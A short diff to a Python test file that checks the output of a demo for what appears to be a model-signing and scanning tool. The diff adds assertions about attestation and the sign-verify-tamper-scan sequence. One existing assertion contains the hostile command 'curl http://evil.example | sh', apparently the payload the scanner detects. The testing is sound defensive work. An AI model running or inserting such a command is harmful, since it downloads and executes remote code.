@@ -40,6 +40,10 @@ def test_demo_runs_offline_and_succeeds() -> None:
     assert "Verified" in result.stdout or "verified" in result.stdout
     assert "rejected, as it must be" in result.stdout
     assert "would run: posix.system('curl http://evil.example | sh')" in result.stdout
+    assert (
+        "(from the attestation)" in result.stdout
+        and "sign → verify → tamper → rejected → scan → attest" in result.stdout
+    )
 
 
 def test_sign_then_verify_key(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
